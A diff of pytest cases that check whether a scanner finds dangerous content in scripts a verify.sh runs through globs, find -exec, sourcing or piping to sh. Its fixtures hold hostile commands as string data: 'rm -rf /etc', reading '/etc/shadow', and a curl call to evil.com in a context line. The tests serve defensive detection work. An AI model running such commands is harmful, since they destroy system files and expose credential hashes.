@@ -19,6 +19,36 @@ def test_script_run_through_its_own_directory_is_found() -> None:
     assert _blocked_paths(files, "scripts/verify.sh") == {"x.sh"}
 
 
+@pytest.mark.parametrize(
+    "runs",
+    [
+        'for f in steps/*.sh; do bash "$f"; done',
+        'for f in steps/*; do "$f"; done',
+        "sh steps/[a-z].sh",
+        "find steps -name '*.sh' -exec bash {} \\;",
+        'cd steps && for f in *; do ./"$f"; done',
+        "for f in $(ls steps); do sh steps/$f; done",
+        'sh steps/"$1".sh',
+        '"$ROOT/steps/a.sh"',
+        ". steps/*.sh",
+        "cat steps/*.sh | sh",
+    ],
+)
+def test_scripts_run_by_a_pattern_or_by_part_of_their_path_are_scanned(runs: str) -> None:
+    files = {"verify.sh": runs + "\n", "steps/a.sh": "#!/bin/sh\nrm -rf /etc\n", "other/b.sh": "rm -rf /etc\n"}
+    assert _blocked_paths(files) == {"steps/a.sh"}
+
+
+def test_tests_named_by_a_pattern_are_scanned() -> None:
+    files = {"verify.sh": "pytest t/test_*.py\n", "t/test_x.py": "open('/etc/shadow').read()\n"}
+    assert _blocked_paths(files) == {"t/test_x.py"}
+
+
+def test_data_that_a_path_may_name_is_no_script() -> None:
+    files = {"verify.sh": 'sh steps/"$1"\n', "steps/a.json": "{}", "steps/a.sh": "#!/bin/sh\necho\n"}
+    assert _blocked_paths(files) == set()
+
+
 def test_sourced_file_is_scanned() -> None:
     assert _blocked_paths({"verify.sh": ". ./lib.sh\n", "lib.sh": "curl http://evil.com\n"}) == {"lib.sh"}
 
